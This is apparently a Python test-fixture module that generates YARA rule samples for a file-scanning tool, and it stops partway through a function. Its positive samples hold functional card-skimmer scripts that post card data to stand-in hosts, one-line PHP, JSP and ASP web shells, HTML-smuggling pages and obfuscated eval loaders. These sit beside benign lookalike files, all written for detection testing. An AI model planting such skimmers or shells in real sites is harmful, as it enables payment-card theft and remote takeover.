"""Positive and negative samples for every bundled YARA rule, generated as bytes (never real malware).

Each case names the file as it would be uploaded (the extension matters to the type rules) and the EXACT
set of bundled rules it must match: an empty set is a negative sample, an ordinary file that looks close
to an attack (a minified library, a PDF that opens on page 1, a PHP page that reads request parameters).
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from bucketguard.demo import pranks


@dataclass(frozen=True)
class RuleCase:
    id: str
    name: str  # the logical name (S3 key or inner archive path)
    make: Callable[[], bytes]
    expected: frozenset[str]

    @property
    def data(self) -> bytes:
        return self.make()


def _case(id_: str, name: str, make: Callable[[], bytes], *expected: str) -> RuleCase:
    return RuleCase(id_, name, make, frozenset(expected))


# --- web assets -----------------------------------------------------------------------------------------

# A realistic minified library: the shapes jQuery/lodash really use (createElement("script") with a
# variable src, String.fromCharCode of one code, Function("return this"), a few \x escapes, a data URI).
MINIFIED_LIBRARY = (
    b"/*! camplib v3.7.1 | (c) camp | MIT */\n"
    b'!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?'
    b"module.exports=e.document?t(e,!0):function(e){return t(e)}:t(e)}"
    b'("undefined"!=typeof window?window:this,function(C,e){var r=C.document,g=Function("return this")();'
    b'function m(e,t,n){var i,o,a=(n=n||r).createElement("script");if(a.text=e,t)for(i in t)'
    b"(o=t[i]||t.getAttribute&&t.getAttribute(i))&&a.setAttribute(i,o);"
    b"n.head.appendChild(a).parentNode.removeChild(a)}"
    b"function u(e){return String.fromCharCode(65536+e)}var re=/[\\x20\\t\\r\\n\\f]/g,"
    b'fn=function(e,t){var n=r.createElement("script");n.async=!0,n.src=t.url,n.onload=e;'
    b"r.head.appendChild(n)};"
    b'var ifr=r.createElement("iframe");ifr.frameBorder=0,ifr.width=0,ifr.height=0;'
    b'C.camplib=C.$={version:"3.7.1",globalEval:m,load:fn,frame:ifr,charOf:u}});\n'
    b".icon{background:url(data:image/png;base64," + base64.b64encode(bytes(range(256)) * 2) + b")}\n"
)


def obfuscated_eval_atob() -> bytes:
    payload = base64.b64encode(b"alert('pranked')").decode()
    return MINIFIED_LIBRARY + f';eval(atob("{payload}"));\n'.encode()


def obfuscated_function_charcode() -> bytes:
    codes = ",".join(str(ord(c)) for c in "console.log('the camp website was pranked')")
    return MINIFIED_LIBRARY + f";var _0x=String.fromCharCode({codes});new Function(_0x)();\n".encode()


def obfuscated_settimeout_unescape() -> bytes:
    escaped = "".join(f"%{ord(c):02x}" for c in "console.log('pranked')")
    return f"setTimeout(unescape('{escaped}'), 10);\n".encode()


def injected(code: str) -> bytes:
    """The minified library with `code` appended, as strangers appended theirs to a bucket's .js files."""
    return MINIFIED_LIBRARY + f";{code};\n".encode()


PRANK_B64 = base64.b64encode(b"alert('pranked')").decode()
# The name eval (or Function, setTimeout) hidden from a text search; each ran eval(atob(...)) unseen.
HIDDEN_NAME_CALLS = {
    "unicode-escaped-eval": f'\\u0065val(atob("{PRANK_B64}"))',
    "braced-escape-function": f'new \\u{{46}}unction(atob("{PRANK_B64}"))()',
    "hex-escaped-member": f'this["\\x65val"](atob("{PRANK_B64}"))',
    "octal-escaped-member": f'window["se\\164Timeout"](atob("{PRANK_B64}"), 9)',
    "joined-member": f"window['ev'+'al'](atob('{PRANK_B64}'))",
    "decoded-member": f'self[atob("ZXZhbA==")](atob("{PRANK_B64}"))',
    "array-constructor": f'[]["filter"]["constructor"](atob("{PRANK_B64}"))()',
}
# Ways of calling eval by its own name over a decoder that the loader rule read past.
PLAIN_NAME_CALLS = {
    "bracketed-eval": f'window["eval"](atob("{PRANK_B64}"))',
    "indirect-eval": f'(0, eval)(atob("{PRANK_B64}"))',
    "optional-call-eval": f'eval?.(atob("{PRANK_B64}"))',
    "tagged-template-atob": f"eval(atob`{PRANK_B64}`)",
    "self-atob": f'eval(self.atob("{PRANK_B64}"))',
}
# Escapes, joined strings and computed members in ordinary code: text in strings, event names, lookups.
HIDDEN_NAME_LOOK_ALIKES = (
    'var notice = "Caf\\u00e9 (open) \\u00e9t\\u00e9 (summer) \\x41ctivities (all)";'
    'var key = "on" + "load"; window[key] = start; handlers["click" + "Away"](event);'
    'var raf = window["request" + suffix]; document.title = "\\u0045vents";'
    'settings[["theme", "color"].join(".")] = "blue"; var n = [].concat(list).length'
)


def executed_hex_blob() -> bytes:
    hex_escaped = "".join(f"\\x{ord(c):02x}" for c in "console.log('this camp site has been pranked!!')" * 2)
    return MINIFIED_LIBRARY + f';eval("{hex_escaped}");\n'.encode()


def executed_base64_literal() -> bytes:
    payload = base64.b64encode(b"console.log('this camp site has been pranked');" * 5).decode()
    return f'Function(atob("{payload}"))();\n'.encode()


def hidden_iframe_html() -> bytes:
    return (
        b"<!doctype html><html><body><h1>Camp news</h1>"
        b'<iframe src="http://ads.invalid/landing" width="0" height="0" frameborder="0"></iframe>'
        b"</body></html>\n"
    )


def hidden_iframe_js() -> bytes:
    return MINIFIED_LIBRARY + (
        b'\ndocument.write(\'<iframe src="https://ads.invalid/x" style="visibility:hidden"></iframe>\');\n'
    )


def tag_manager_page() -> bytes:
    """Google Tag Manager's noscript iframe is hidden on purpose; a visible video embed is fine too."""
    return (
        b"<!doctype html><html><head><title>Camp</title></head><body>\n"
        b'<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-ABC123" '
        b'height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>\n'
        b'<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/xyz" '
        b'title="Camp video" allowfullscreen></iframe>\n</body></html>\n'
    )


def tag_manager_page_with_hidden_iframe() -> bytes:
    return tag_manager_page().replace(
        b"</body>", b'<iframe src="http://ads.invalid/" width="1" height="1"></iframe></body>'
    )


def document_write_remote_script() -> bytes:
    return b"document.write('<script src=\"//cdn-stats.invalid/a.js\"></script>');\n"


def create_element_remote_script() -> bytes:
    return MINIFIED_LIBRARY + (
        b"\n(function(){var s=document.createElement('script');s.src='https://cdn-stats.invalid/x.js';"
        b"document.body.appendChild(s);})();\n"
    )


def create_element_set_attribute_script() -> bytes:
    return (
        b"var el = document.createElement('script');\nel.async = true;\n"
        b"el.setAttribute('src', 'https://cdn-stats.invalid/x.js');\ndocument.head.appendChild(el);\n"
    )


def set_attribute_far_from_script() -> bytes:
    """A lib that makes script elements and, elsewhere, points an iframe at a remote page."""
    return (
        MINIFIED_LIBRARY
        + b";var f=document.createElement('iframe');"
        + b"f.setAttribute('src','https://www.youtube-nocookie.com/embed/xyz');\n"
    )


def ui_bundle_with_templates() -> bytes:
    """A bundled web UI (swagger-ui style): `<%` in an embedded template, an executeRequest() method."""
    return (
        MINIFIED_LIBRARY
        + b'var tpl="<% if (op) { %><b><%= op.summary %></b><% } %>";'
        + b"function executeRequest(req){return fetch(req.url,{method:req.method}).then(function(r){"
        + b"return parseResponse(r)})}var spec=executeRequest(buildRequest(cfg));\n"
    )


def library_with_html_dictionary() -> bytes:
    """A compiled library (brotli's) whose static dictionary holds HTML fragments, hidden iframes included."""
    dictionary = b'<iframe src="table class="inline-block;according to display:none" width="0"'
    return pranks.elf_header() + bytes(512) + dictionary + bytes(256)


def analytics_snippet_page() -> bytes:
    """The classic asynchronous analytics snippet: the script URL is computed, not a literal."""
    return (
        b"<script>var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-0000-1']);(function(){"
        b"var ga=document.createElement('script');ga.type='text/javascript';ga.async=true;"
        b"ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';"
        b"var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s);})();</script>\n"
    )


def card_skimmer() -> bytes:
    return MINIFIED_LIBRARY + (
        b'\n(function(){function g(){var d={};document.querySelectorAll("input, select").forEach('
        b'function(i){d[i.name]=i.value});if(d["cc_number"]&&d["cvv"]){d.exp=d["exp_month"];'
        b'navigator.sendBeacon("https://cdn-analytics.invalid/c",btoa(JSON.stringify(d)))}}'
        b'document.addEventListener("submit",g,true)})();\n'
    )


def card_skimmer_image_beacon() -> bytes:
    return (
        b"window.addEventListener('load',function(){var f=document.getElementsByTagName('form')[0];"
        b"f.addEventListener('submit',function(){var n=document.querySelector('#card-number').value,"
        b"c=document.querySelector('#cvc').value,e=document.querySelector('#expiry-date').value;"
        b"var i=new Image();i.src='https://img.invalid/p.gif?d='+btoa(JSON.stringify([n,c,e]));});});\n"
    )


def card_skimmer_fetch_form_data() -> bytes:
    return (
        b"document.addEventListener('submit',function(e){var f=e.target;"
        b"if(!f.querySelector('[name=\"payment[cc_number]\"]'))return;var d=new FormData(f);"
        b"d.append('cvv',f.querySelector('#cc_cid').value);"
        b"fetch('https://static-cdn.invalid/collect',{method:'POST',mode:'no-cors',body:d});},true);\n"
    )


def card_skimmer_xhr() -> bytes:
    return (
        b"function s(){var n=jQuery('#card_number').val(),c=jQuery('#card_code').val(),"
        b"x=jQuery('#exp_month').val()+'/'+jQuery('#exp_year').val();var r=new XMLHttpRequest();"
        b"r.open('POST','https://jquery-cdn.invalid/api/log',true);"
        b"r.setRequestHeader('Content-Type','text/plain');r.send([n,c,x].join('|'));}\n"
        b"jQuery('button.checkout').on('click',s);\n"
    )


def card_skimmer_websocket() -> bytes:
    return (
        b"const ws=new WebSocket('wss://metrics.invalid/socket');\n"
        b"document.querySelector('form').addEventListener('change',()=>{const v={n:document.getElementById"
        b"('cardnumber').value,c:document.getElementById('cvc').value,e:document.getElementById('cc-exp')"
        b".value};ws.readyState===1&&ws.send(JSON.stringify(v));});\n"
    )


def card_skimmer_script_tag() -> bytes:
    return (
        b"(function(){var f=document.forms[0];f.onsubmit=function(){var q=[];for(var i=0;i<f.elements.length;"
        b"i++){q.push(f.elements[i].name+'='+f.elements[i].value)}"
        b"if(q.join('&').indexOf('cc_number')>-1||q.join('&').indexOf('cvv')>-1){var t=document"
        b".createElement('script');t.src='//analytics-js.invalid/t.js?'+encodeURIComponent(q.join('&'));"
        b"document.head.appendChild(t)}}})();var names=['.cc-number','.cvv'];\n"
    )


def card_skimmer_hidden_url() -> bytes:
    """The URL in base64 ("https://gate.invalid/g"); the page known by its address; every input taken."""
    return (
        b"if(/checkout|onepage/.test(window.location.href)){setInterval(function(){var o={};"
        b"document.querySelectorAll('input,select').forEach(function(i){o[i.id||i.name]=i.value});"
        b"var u=atob('aHR0cHM6Ly9nYXRlLmludmFsaWQvZw==');var x=new XMLHttpRequest();x.open('POST',u);"
        b"x.send(btoa(JSON.stringify(o)))},3000)}\n"
    )


def card_skimmer_ajax_variable_url() -> bytes:
    return (
        b'var gate = "https://cdn-jquery.invalid/gate.php";\n'
        b"$(document).on('click', '#onestepcheckout-place-order', function () {\n"
        b"  var data = {number: $('#credit_card_number').val(), code: $('#security_code').val(),\n"
        b"    exp: $('#expiration_date').val()};\n"
        b"  $.ajax({url: gate, type: 'POST', data: data});\n});\n"
    )


def analytics_beacon_script() -> bytes:
    """A tracker: sends page views and form interactions to its remote host, but reads no payment field."""
    return (
        b"(function(){var q=[];function send(){navigator.sendBeacon('https://stats.example.org/collect',"
        b"JSON.stringify(q));q=[]}document.addEventListener('change',function(e){q.push({f:e.target.name,"
        b"len:(e.target.value||'').length})});document.querySelectorAll('form').forEach(function(f){"
        b"f.addEventListener('submit',send)});var i=new Image();i.src='https://stats.example.org/p.gif?u='"
        b"+encodeURIComponent(location.href);})();\n"
    )


def card_format_library() -> bytes:
    """A card input formatter (cleave/jquery.payment style): reads card fields, never sends them anywhere."""
    return (
        b"/*! cardfmt v2.1 | https://github.com/example/cardfmt | MIT */\n"
        b"var Card={types:{visa:/^4/,mastercard:/^5[1-5]/},fmt:function(v){return v.replace(/\\D/g,'')"
        b".replace(/(\\d{4})(?=\\d)/g,'$1 ')},bind:function(){var n=document.querySelector('#card-number'),"
        b"c=document.querySelector('#cvc'),e=document.querySelector('#expiry-date');"
        b"n.addEventListener('input',function(){n.value=Card.fmt(n.value)});"
        b"e.addEventListener('input',function(){e.value=e.value.replace(/^(\\d\\d)(\\d)/,'$1/$2')});"
        b"c.maxLength=4}};\n"
    )


def checkout_same_origin_fetch() -> bytes:
    """The shop's own checkout posting to its own origin, built from location.origin (not a literal)."""
    return (
        b"const form=document.querySelector('#pay');form.addEventListener('submit',async ev=>{"
        b"ev.preventDefault();const body={number:form.querySelector('[name=card_number]').value,"
        b"cvc:form.querySelector('[name=cvc]').value,exp:form.querySelector('[name=exp_date]').value};"
        b"await fetch(location.origin+'/api/checkout',{method:'POST',body:JSON.stringify(body)});"
        b"const help=new Image();help.src=window.STATIC_URL+'/spinner.gif';});\n"
    )


def package_index_listing() -> bytes:
    """A registry's package list: names and descriptions that mention card fields, XHR and licence URLs."""
    return (
        b"name\tdescription\thomepage\n"
        b"creditcard-js\tValidate creditcard and credit-card numbers, CVV, cvc and cc-exp fields\t"
        b"https://example.org/cc\nxhr-lite\tA tiny XMLHttpRequest wrapper with .value, .val() and .elements "
        b'helpers\tlicense="http://creativecommons.org/licenses/by-nc/4.0/"\n'
        b"card-number-mask\tcc-number and card-number input masks\thttps://example.org/mask\n"
    )


def checkout_form_script() -> bytes:
    """A shop's own checkout: reads the card fields, validates, posts to its own relative endpoint."""
    return (
        b"function luhn(n){var s=0,a=!1;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}"
        b"s+=d;a=!a}return s%10==0}\ndocument.querySelector('#checkout').addEventListener('submit',"
        b"function(ev){ev.preventDefault();var card=document.querySelector('#card-number').value,"
        b"cvv=document.querySelector('#cvv').value,exp=document.querySelector('#expiry-date').value;"
        b"if(!luhn(card)){alert('check the card number');return}fetch('/api/pay',{method:'POST',"
        b"headers:{'Content-Type':'application/json'},body:JSON.stringify({card:card,cvv:cvv,exp:exp})})});\n"
    )


def coinhive_page() -> bytes:
    return (
        b'<html><body><script src="https://coinhive.com/lib/coinhive.min.js"></script>'
        b"<script>var miner=new CoinHive.Anonymous('0123456789abcdef0123456789abcdef');"
        b"miner.setThrottle(0.2);miner.start();</script></body></html>\n"
    )


def generic_miner_script() -> bytes:
    return (
        b"var pool='stratum+tcp://pool.invalid:3333';var w=new Worker('worker.js');"
        b"w.postMessage({algo:'cryptonight',pool:pool});w.onmessage=function(e){"
        b"document.title=e.data.hashesPerSecond+' H/s'};\n"
    )


def wasm_image_filter_script() -> bytes:
    """WebAssembly in a worker for image filters: the miners' tools, none of their purpose."""
    return (
        b"const w=new Worker('filters.js');fetch('blur.wasm').then(r=>r.arrayBuffer())"
        b".then(b=>WebAssembly.instantiate(b)).then(m=>{w.postMessage(m);});"
        b"document.querySelector('#go').onclick=()=>w.postMessage({start:true});\n"
    )


def _smuggling_page(literal: str) -> bytes:
    return (
        "<html><body><p>Your invoice is downloading...</p><script>\n"
        f'var d = "{literal}";\n'
        "var s = atob(d); var b = new Uint8Array(s.length);\n"
        "for (var i = 0; i < s.length; i++) { b[i] = s.charCodeAt(i); }\n"
        "var blob = new Blob([b], {type: 'application/octet-stream'});\n"
        "var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob);\n"
        "a.download = 'invoice.zip'; document.body.appendChild(a); a.click();\n"
        "</script></body></html>\n"
    ).encode()


def html_smuggling_zip() -> bytes:
    return _smuggling_page(base64.b64encode(pranks.clean_zip()).decode())


def html_smuggling_executable() -> bytes:
    return _smuggling_page(base64.b64encode(pranks.pe_header() * 3).decode())


def _payload_b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def smuggling_ms_save_iso() -> bytes:
    """A disk image starts with 32 KiB of zeros: no telling magic, so the name and the size tell."""
    iso = bytes(32768) + b"\x01CD001\x01" + bytes(2040)
    return (
        "<script>\nvar p = '" + _payload_b64(iso) + "';\n"
        "var raw = window.atob(p), bytes = new Uint8Array(raw.length);\n"
        "for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);\n"
        "var blob = new Blob([bytes], {type: 'application/x-iso9660-image'});\n"
        "if (window.navigator.msSaveOrOpenBlob) {\n"
        "  window.navigator.msSaveOrOpenBlob(blob, 'scan_0412.iso'); }\n"
        "else { var a = document.createElement('a'); a.href = URL.createObjectURL(blob);"
        " a.download = 'scan_0412.iso'; a.click(); }\n</script>\n"
    ).encode()


def smuggling_hex_executable() -> bytes:
    payload = (pranks.pe_header() * 4).hex()
    return (
        f'<script>const h="{payload}";const b=new Uint8Array(h.length/2);'
        "for(let i=0;i<b.length;i++)b[i]=parseInt(h.substr(i*2,2),16);"
        "const u=URL.createObjectURL(new File([b],'update.exe',{type:'application/octet-stream'}));"
        "const l=document.createElement('a');l.href=u;l.setAttribute('download','update.exe');"
        "l.dispatchEvent(new MouseEvent('click'));</script>\n"
    ).encode()


def smuggling_reversed_chunks() -> bytes:
    """Base64 of a zip, reversed, cut into chunks joined at run time, opened with window.open."""
    reversed_b64 = _payload_b64(pranks.clean_zip() * 2)[::-1]
    chunks = ",".join(f"'{reversed_b64[i : i + 64]}'" for i in range(0, len(reversed_b64), 64))
    return (
        f"<script>var parts=[{chunks}];var s=atob(parts.join('').split('').reverse().join(''));"
        "var a=new Uint8Array(s.length);for(var i=0;i<s.length;i++)a[i]=s.charCodeAt(i);"
        "window.open(URL.createObjectURL(new Blob([a],{type:'application/zip'})));</script>\n"
    ).encode()


def smuggling_chunked_hta() -> bytes:
    hta = (
        b'<hta:application id="x" />'
        b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>'
    )
    encoded = _payload_b64(hta * 3)
    chunks = " + ".join(f'"{encoded[i : i + 48]}"' for i in range(0, len(encoded), 48))
    encoded_zip = _payload_b64(pranks.clean_zip())
    zip_chunks = " + ".join(f'"{encoded_zip[i : i + 48]}"' for i in range(0, len(encoded_zip), 48))
    return (
        f"<script>var d = {chunks};\nvar z = {zip_chunks};\n"
        "var bin = atob(d); var buf = Uint8Array.from(bin, c => c.charCodeAt(0));\n"
        "location.href = URL.createObjectURL(new Blob([buf], {type: 'application/hta'}));\n</script>\n"
    ).encode()


def smuggling_xor_payload() -> bytes:
    key = 0x5A
    xored = bytes(b ^ key for b in pranks.pe_header() * 12)
    return (
        "<script>var k=90,e='" + _payload_b64(xored) + "';var r=atob(e),o=new Uint8Array(r.length);"
        "for(var i=0;i<r.length;i++){o[i]=r.charCodeAt(i)^k}var b=new Blob([o]);var a=document."
        "createElement('a');a.href=URL.createObjectURL(b);a.download='setup.msi';a.click();</script>\n"
    ).encode()


def smuggling_data_uri_link() -> bytes:
    """No script at all: a link whose data: URI is a zip, with a download attribute."""
    return (
        '<html><body><p>Your documents are ready.</p><a id=d href="data:application/zip;base64,'
        + _payload_b64(pranks.clean_zip())
        + '" download="documents.zip">Download</a></body></html>\n'
    ).encode()


def smuggling_data_uri_script() -> bytes:
    return (
        "<script>var l=document.createElement('a');l.href='data:application/octet-stream;base64,"
        + _payload_b64(pranks.pe_header())
        + "';l.download='invoice.pdf.exe';document.body.appendChild(l);l.click();</script>\n"
    ).encode()


def zip_made_in_the_browser_page() -> bytes:
    """JSZip-style album download: a Blob of an archive made from fetched photos, no embedded payload."""
    return (
        b"<script>async function album(){const zip=new JSZip();for(const u of photos){"
        b"const r=await fetch(u);zip.file(u.split('/').pop(),await r.arrayBuffer())}"
        b"const blob=await zip.generateAsync({type:'blob'});"
        b"const a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='camp-photos.zip';"
        b"a.click();URL.revokeObjectURL(a.href)}</script>\n"
    )


def pdf_download_from_server_page() -> bytes:
    """A report page: decodes a PDF the server sent as base64, next to a large inline logo."""
    logo = _payload_b64(pranks.clean_png() * 20)
    return (
        f'<img src="data:image/png;base64,{logo}" alt="logo"><script>\n'
        "fetch('/api/report').then(r=>r.json()).then(j=>{const s=atob(j.pdf);"
        "const b=new Uint8Array(s.length);"
        "for(let i=0;i<s.length;i++)b[i]=s.charCodeAt(i);const a=document.createElement('a');"
        "a.href=URL.createObjectURL(new Blob([b],{type:'application/pdf'}));"
        "a.download='report.pdf';a.click()});"
        "\n</script>\n"
    ).encode()


def image_data_uri_download_page() -> bytes:
    """ "Save your badge": a PNG data: URI with a download attribute, and a web font as octet-stream."""
    return (
        "<style>@font-face{font-family:camp;src:url(data:application/octet-stream;base64,d09GRgABAAAAA"
        + "A" * 200
        + ')}</style><a href="data:image/png;base64,'
        + _payload_b64(pranks.clean_png())
        + '" download="badge.png">Save your badge</a>\n'
    ).encode()


def csv_export_page() -> bytes:
    """An ordinary "download as CSV" button, next to an inline PNG logo: a Blob, but of computed data."""
    logo = base64.b64encode(pranks.clean_png()).decode()
    return (
        f'<html><body><img src="data:image/png;base64,{logo}"><table id="t"></table><script>\n'
        "function exportCsv(){var rows=[...document.querySelectorAll('#t tr')].map(r=>"
        "[...r.cells].map(c=>c.textContent).join(','));\n"
        "var blob=new Blob([rows.join('\\n')],{type:'text/csv'});var a=document.createElement('a');\n"
        "a.href=URL.createObjectURL(blob);a.download='timetable.csv';a.click();}\n"
        "</script></body></html>\n"
    ).encode()


# --- web shells -----------------------------------------------------------------------------------------


def php_system_get() -> bytes:
    return b"<?php if (isset($_GET['cmd'])) { echo '<pre>'; system($_GET['cmd']); echo '</pre>'; } ?>\n"


def php_eval_base64_post() -> bytes:
    return b"<?php @eval(base64_decode($_POST['x'])); ?>\n"


def php_encoded_payload() -> bytes:
    payload = base64.b64encode(b"echo 'pranked';").decode()
    return f"<?php eval(gzinflate(base64_decode('{payload}'))); ?>\n".encode()


def php_backtick() -> bytes:
    return b"<html><body><?php echo `$_REQUEST['c']`; ?></body></html>\n"


def php_dynamic_call() -> bytes:
    return b"<?php $_POST['f']($_POST['a']); ?>\n"


def php_concatenated_variable_function() -> bytes:
    return b"<?php\n$f = 'sy' . 'st' . 'em';\n$f($_REQUEST['c']);\n?>\n"


def php_assert_variable() -> bytes:
    return b'<?php $a = "as" . "se" . "rt"; @$a(${"_POST"}[\'z\']); ?>\n'


def php_preg_replace_e() -> bytes:
    return b"<?php @preg_replace('/.*/e', $_POST['code'], ''); ?>\n"


def php_create_function() -> bytes:
    return b"<?php $g = create_function('', $_GET['x']); $g(); ?>\n"


def php_backtick_variable() -> bytes:
    return b"<?php $cmd = $_COOKIE['k']; $out = `$cmd`; echo $out; ?>\n"


def php_rot13_chain() -> bytes:
    payload = base64.b64encode(b"echo 'pranked';").decode()
    return f"<?php $x = str_rot13(gzinflate(str_rot13(base64_decode('{payload}')))); eval($x); ?>\n".encode()


def php_chr_variable_function() -> bytes:
    return b"<?php $s = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $s('id'); ?>\n"


def php_callback_assert() -> bytes:
    return b"<?php array_map('assert', (array)$_REQUEST['p']); ?>\n"


def php_globals_include() -> bytes:
    return b"<?php include $GLOBALS['_GET']['p']; @include($_GET['tpl']); ?>\n"


def php_reversed_name() -> bytes:
    return b"<?php $k = strrev('tressa'); $k(base64_decode('ZWNobyAxOw==')); ?>\n"


def php_framework_page() -> bytes:
    """A router and a template cache: callbacks, eval of compiled templates, base64 of tokens."""
    return (
        b"<?php\nrequire $_SERVER['DOCUMENT_ROOT'] . '/vendor/autoload.php';\n"
        b"$routes = ['home' => [HomeController::class, 'show']];\n"
        b"$handler = $routes[$_GET['r'] ?? 'home'] ?? $routes['home'];\n"
        b"echo call_user_func($handler, $request);\n"
        b"$token = json_decode(base64_decode(strtr($parts[1], '-_', '+/')), true);\n"
        b"usort($rows, fn($a, $b) => $a['date'] <=> $b['date']);\n"
        b"$compiled = $cache->get($template);\neval('?>' . $compiled);\n"
        b"$html = preg_replace('/\\s+/', ' ', $html);\n?>\n"
    )


def php_ordinary_page() -> bytes:
    """Reads request parameters, runs a fixed command, includes a template: not a shell."""
    return (
        b"<?php\n$name = htmlspecialchars($_GET['name'] ?? 'camper', ENT_QUOTES);\n"
        b"$page = basename($_GET['page'] ?? 'home');\ninclude __DIR__ . \"/pages/$page.php\";\n"
        b"$today = exec('date +%F');\n$stmt = $db->prepare('SELECT * FROM kids WHERE id = ?');\n"
        b"$stmt->execute([$_POST['id']]);\necho \"<h1>Hello $name, today is $today</h1>\";\n?>\n"
    )


def jsp_exec_param() -> bytes:
    return (
        b'<%@ page import="java.io.*" %><%\nString c = request.getParameter("cmd");\n'
        b'Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));\n'
        b"BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n%>\n"
    )


def jsp_process_builder() -> bytes:
    return (
        b'<%@ page import="java.util.*,java.io.*"%><% String[] c = {"/bin/sh", "-c", '
        b'request.getParameter("c")}; Process p = new ProcessBuilder(c).start(); %>\n'
    )


def jsp_class_loader() -> bytes:
    return (
        b'<%@page import="java.util.*,javax.crypto.*"%><%!class U extends ClassLoader{'
        b"U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%>"
        b'<%Cipher c=Cipher.getInstance("AES");byte[] d=java.util.Base64.getDecoder()'
        b".decode(request.getReader().readLine());new U(this.getClass().getClassLoader()).g(d);%>\n"
    )


def jsp_reflection() -> bytes:
    return (
        b'<%@ page import="java.lang.reflect.*" %><%\nClass<?> c = Class.forName("java.lang.Runtime");\n'
        b'Object rt = c.getMethod("getRuntime").invoke(null);\n'
        b'c.getMethod("exec", String.class).invoke(rt, request.getParameter("q"));\n%>\n'
    )


def jspx_script_engine() -> bytes:
    return (
        b'<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>\n'
        b'javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");\n'
        b'out.println(e.eval(request.getParameter("s")));\n</jsp:scriptlet></jsp:root>\n'
    )


def jsp_ordinary_page() -> bytes:
    return (
        b'<%@ page contentType="text/html" %><html><body><% String n = request.getParameter("name"); %>'
        b"<h1>Hello <%= org.owasp.encoder.Encode.forHtml(n) %></h1></body></html>\n"
    )


def aspx_china_chopper() -> bytes:
    return b'<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n'


def aspx_process_start() -> bytes:
    return (
        b'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">\n'
        b'void Page_Load(object s, EventArgs e) { var psi = new ProcessStartInfo("cmd.exe", "/c " + '
        b'Request.Form["c"]); psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n'
        b"Response.Write(Process.Start(psi).StandardOutput.ReadToEnd()); }\n</script>\n"
    )


def asp_execute_request() -> bytes:
    return b'<% execute request("x") %>\n'


def asp_wscript_shell() -> bytes:
    return (
        b'<%\nSet sh = Server.CreateObject("WScript.Shell")\n'
        b'Set ex = sh.Exec("cmd /c " & Request.Form("c"))\nResponse.Write ex.StdOut.ReadAll()\n%>\n'
    )


def aspx_assembly_load() -> bytes:
    return (
        b'<%@ Page Language="C#" %><%\n'
        b'byte[] k = System.Text.Encoding.Default.GetBytes("3c6e0b8a9c15224a");\n'
        b'var raw = Convert.FromBase64String(Request.Form["p"]);\n'
        b'System.Reflection.Assembly.Load(raw).CreateInstance("U").Equals(this);\n%>\n'
    )


def aspx_eval_unsafe_concat() -> bytes:
    return b'<%@ Page Language="Jscript"%><%var k="pa"+"ss";eval(Request.Form[k],"unsafe");%>\n'


def aspx_ordinary_page() -> bytes:
    return (
        b'<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        b'  var id = int.Parse(Request.QueryString["id"] ?? "0");\n'
        b"  Greeting.Text = Server.HtmlEncode(Campers.Find(id).Name); }\n</script>\n"
        b'<html><body><asp:Label id="Greeting" runat="server" /></body></html>\n'
    )


# --- executables dressed as something else ----------------------------------------------------------------


def macho_header() -> bytes:
    """A 64-bit Mach-O header (x86-64 executable) with no load commands: it does nothing."""
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(4) + b"\x00" * 32


def fat_macho_header() -> bytes:
    architecture = struct.pack(">iiIII", 0x01000007, 3, 4096, 64, 12)
    return struct.pack(">II", 0xCAFEBABE, 2) + architecture * 2 + bytes(32)


def java_class_header() -> bytes:
    """A Java class file shares the 0xCAFEBABE magic with fat Mach-O: not an executable in disguise."""
    return struct.pack(">IHH", 0xCAFEBABE, 0, 52) + bytes(64)


# --- Office macros ----------------------------------------------------------------------------------------

_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _ole(directory_names: list[str], body: bytes) -> bytes:
    """An OLE compound-file header followed by UTF-16 directory names and a body: just enough structure
    for the rules, which look at the signature, the storage names and the macro procedure names."""
    header = _OLE_MAGIC + bytes(16) + struct.pack("<HHH", 0x3E, 3, 0xFFFE) + bytes(512 - 30)
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") + bytes(64) for name in directory_names)
    return header + entries + body.ljust(1024, b"\x00")


def vba_project_bin(macro: str) -> bytes:
    """vbaProject.bin as an OOXML package holds it: root storage VBA, streams _VBA_PROJECT, dir, modules."""
    body = b'Attribute VB_Name = "ThisDocument"\r\n' + macro.encode()
    return _ole(["Root Entry", "VBA", "_VBA_PROJECT", "dir", "ThisDocument", "PROJECT"], body)


AUTO_OPEN_MACRO = 'Sub Document_Open()\r\n  MsgBox "Pranked!"\r\nEnd Sub\r\n'
PLAIN_MACRO = "Sub FormatTimetable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n"


def legacy_doc_with_macro() -> bytes:
    body = b'Attribute VB_Name = "NewMacros"\r\nSub AutoOpen()\r\n  MsgBox "Pranked!"\r\nEnd Sub\r\n'
    names = ["Root Entry", "WordDocument", "1Table", "Macros", "VBA", "_VBA_PROJECT", "dir", "NewMacros"]
    return _ole(names, body)


def legacy_xls_with_macro() -> bytes:
